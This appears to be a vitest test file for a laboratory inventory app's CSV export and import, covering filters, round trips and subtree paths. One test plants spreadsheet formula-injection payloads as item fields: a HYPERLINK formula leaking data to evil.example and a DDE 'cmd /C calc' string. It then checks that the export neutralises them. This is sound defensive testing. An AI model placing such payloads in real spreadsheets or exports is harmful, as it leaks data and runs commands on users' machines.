/** CSV export of item lists and subtrees, and the round trip: an export imports again into an empty database. */
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Item } from '../../src/modules/inventory/inventory.schema.js';
import { dialectAvailable, dialects } from '../support/databases.js';
import { buildItem, callApi } from '../support/inventory-factories.js';
import { useTestApp } from '../support/test-app.js';
import { getText, postCsv } from './bulk-support.js';

type Row = Record<string, string>;

function rowsOf(text: string): Row[] {
  return parse<Row>(text, { columns: true });
}

/** An export's rows as what they say, without ids, human ids and stamps (which differ between databases). */
function meaning(rows: readonly Row[]): Row[] {
  const names = new Map(rows.map((row) => [row.humanId ?? '', row.name ?? '']));
  return rows
    .map((row) => {
      const {
        humanId: _h,
        id: _i,
        createdAt: _ca,
        createdBy: _cb,
        updatedAt: _ua,
        updatedBy: _ub,
        ...rest
      } = row;
      return {
        ...rest,
        parent: names.get(rest.parent ?? '') ?? rest.parent ?? '',
        virtual: names.get(rest.virtual ?? '') ?? rest.virtual ?? '',
      };
    })
    .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
}

describe.each(dialects)('CSV export on %s', (dialect) => {
  describe.skipIf(!dialectAvailable(dialect))('', () => {
    const a = useTestApp(dialect, { users: { userA: 'user' } });
    const b = useTestApp(dialect, { users: { userB: 'user' } });
    const { userA } = a.users;
    const { userB } = b.users;
    let freezer: Item;
    let plasmid: Item;

    beforeAll(async () => {
      const room = await buildItem(a, userA, { type: 'room', name: 'Room 101', fields: { building: 'B1' } });
      freezer = await buildItem(a, userA, {
        type: '-80 freezer',
        name: '-80 freezer A',
        parentId: room.id,
        fields: { shelf: '2' },
      });
      const rack = await buildItem(a, userA, {
        type: 'rack',
        name: 'Rack 3',
        parentId: freezer.id,
        fields: { position: 'left' },
      });
      const box = await buildItem(a, userA, {
        type: 'box 9x9',
        name: 'Box 12',
        parentId: rack.id,
        fields: { color: 'red' },
      });
      plasmid = await buildItem(a, userA, {
        type: 'plasmid',
        name: 'pExport',
        description: 'line one\nline two, with "quotes"',
        fields: { sequence: 'ACGT', resistance: 'amp' },
      });
      await buildItem(a, userA, {
        type: 'tube',
        name: 'Tube B7',
        parentId: box.id,
        slot: 'B7',
        virtualId: plasmid.id,
        barcode: 'EXP-1',
        fields: { volume_ul: 12.5, concentration_unit: 'ng/ul', frozen_on: '2026-01-31' },
      });
      await buildItem(a, userA, {
        type: 'tube',
        name: 'Hidden tube',
        parentId: box.id,
        slot: 'A1',
        hidden: true,
      });
      await buildItem(a, userA, {
        type: '96-well plate',
        name: 'Plate',
        fields: { sealed: false, plate_type: 'flat' },
      });
    });

    it('exports a list with the filters of GET /api/items, one column per field', async () => {
      const all = await getText(a, userA, '/api/exports/items.csv?includeHidden=true');
      expect(all.status).toBe(200);
      expect(all.type).toMatch(/^text\/csv/);
      const rows = rowsOf(all.text);
      expect(rows).toHaveLength(8);
      const header = Object.keys(rows[0] ?? {});
      expect(header.slice(0, 15)).toEqual([
        'humanId',
        'id',
        'type',
        'name',
        'description',
        'barcode',
        'parent',
        'slot',
        'virtual',
        'hidden',
        'createdAt',
        'createdBy',
        'updatedAt',
        'updatedBy',
        expect.any(String),
      ]);
      expect(header).toContain('fields.position'); // `position` alone would read as the slot
      expect(header).toContain('volume_ul');
      const tube = rows.find((row) => row.name === 'Tube B7');
      expect(tube).toMatchObject({
        type: 'tube',
        slot: 'B7',
        virtual: plasmid.humanId,
        hidden: 'false',
        barcode: 'EXP-1',
        volume_ul: '12.5',
        frozen_on: '2026-01-31',
        createdBy: userA.user.username,
        color: '',
      });
      expect(rows.find((row) => row.name === 'pExport')?.description).toBe(
        'line one\nline two, with "quotes"',
      );

      const visible = rowsOf((await getText(a, userA, '/api/exports/items.csv')).text);
      expect(visible.map((row) => row.name)).not.toContain('Hidden tube');
      const tubes = rowsOf(
        (await getText(a, userA, '/api/exports/items.csv?type=Tube&includeHidden=true')).text,
      );
      expect(tubes.map((row) => row.name).sort()).toEqual(['Hidden tube', 'Tube B7']);
      expect(Object.keys(tubes[0] ?? {})).not.toContain('color');
      const found = rowsOf((await getText(a, userA, '/api/exports/items.csv?q=plate')).text);
      expect(found.map((row) => row.name)).toEqual(['Plate']);
      const unknownType = await getText(a, userA, '/api/exports/items.csv?type=spaceship');
      expect(unknownType.status).toBe(422);
    });

    it('imports its own export into an empty database, which then exports the same', async () => {
      const exported = (await getText(a, userA, '/api/exports/items.csv?includeHidden=true')).text;
      const answer = await postCsv(b, userB, '/api/imports/items', exported);
      expect(answer.status, JSON.stringify(answer.body.errors)).toBe(201);
      expect(answer.body.created).toBe(8);
      expect(answer.body.warnings).toEqual([]);
      const again = (await getText(b, userB, '/api/exports/items.csv?includeHidden=true')).text;
      expect(meaning(rowsOf(again))).toEqual(meaning(rowsOf(exported)));
    });

    it("exports a location's whole subtree with each item's path and slot", async () => {
      const answer = await getText(a, userA, `/api/items/${freezer.id}/subtree.csv?includeHidden=true`);
      expect(answer.status).toBe(200);
      const rows = rowsOf(answer.text);
      expect(
        rows.map((row) => [row.name, row.path, row.slot, row.parent === '' ? '' : 'has parent']),
      ).toEqual(
        [
          // A name starting with "-" would be a formula to a spreadsheet: the export marks it as text.
          ["'-80 freezer A", 'Room 101', '', ''],
          ['Rack 3', 'Room 101 / -80 freezer A', '', 'has parent'],
          ['Box 12', 'Room 101 / -80 freezer A / Rack 3', '', 'has parent'],
          ['Tube B7', 'Room 101 / -80 freezer A / Rack 3 / Box 12', 'B7', 'has parent'],
          ['Hidden tube', 'Room 101 / -80 freezer A / Rack 3 / Box 12', 'A1', 'has parent'],
        ].sort((x, y) => (x[1]?.length ?? 0) - (y[1]?.length ?? 0) || 0),
      );
      expect(Object.keys(rows[0] ?? {})).toContain('path');
      const withoutHidden = rowsOf((await getText(a, userA, `/api/items/${freezer.id}/subtree.csv`)).text);
      expect(withoutHidden.map((row) => row.name)).not.toContain('Hidden tube');

      // The subtree imports on its own: the root at the top level, the rest inside it. Its rows refer to each
      // other by human id, which wins over items of the same human id in the target database.
      // Without the plasmid (not in the subtree) and the barcode (taken by the round trip above).
      const subtreeOnly = answer.text.replaceAll(plasmid.humanId, '').replaceAll('EXP-1', '');
      const created = await postCsv(b, userB, '/api/imports/items', subtreeOnly);
      expect(created.status, JSON.stringify(created.body.errors)).toBe(201);
      const root = created.body.items?.[0];
      const tree = await callApi<{ items: Item[] }>(
        b,
        userB,
        'GET',
        `/api/items/${root?.id}/descendants?includeHidden=true`,
      );
      expect(tree.body.items.map((item) => item.name).sort()).toEqual([
        'Box 12',
        'Hidden tube',
        'Rack 3',
        'Tube B7',
      ]);
    });

    it('writes cells a spreadsheet would run as formulas as text, and imports them back as they were', async () => {
      const hostile = {
        name: '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
        description: '@SUM(1+1)*cmd|" /C calc"!A0',
        resistance: '+kan',
      };
      const made = await buildItem(a, userA, {
        type: 'plasmid',
        name: hostile.name,
        description: hostile.description,
        fields: { sequence: 'GATTACA', resistance: hostile.resistance, backbone: '-5' },
      });
      const exported = (
        await getText(a, userA, `/api/exports/items.csv?q=${encodeURIComponent('HYPERLINK')}`)
      ).text;
      const [row] = rowsOf(exported);
      expect(row).toMatchObject({
        name: `'${hostile.name}`,
        description: `'${hostile.description}`,
        type: 'plasmid',
      });
      expect(Object.values(row ?? {}).filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
      // Numbers stay numbers, even with a sign.
      expect(Object.values(row ?? {})).toContain('-5');

      const imported = await postCsv(b, userB, '/api/imports/items', exported.replaceAll(made.humanId, ''));
      expect(imported.status, JSON.stringify(imported.body.errors)).toBe(201);
      const id = imported.body.items?.[0]?.id;
      const copy = await callApi<Item>(b, userB, 'GET', `/api/items/${id}`);
      expect(copy.body).toMatchObject({
        name: hostile.name,
        description: hostile.description,
        fields: { resistance: hostile.resistance, backbone: '-5' },
      });
    });

    it('refuses a subtree of something that is not a live physical', async () => {
      expect((await getText(a, userA, '/api/items/p-nothing/subtree.csv')).status).toBe(404);
      expect((await getText(a, userA, `/api/items/${plasmid.id}/subtree.csv`)).status).toBe(422);
    });
  });
});
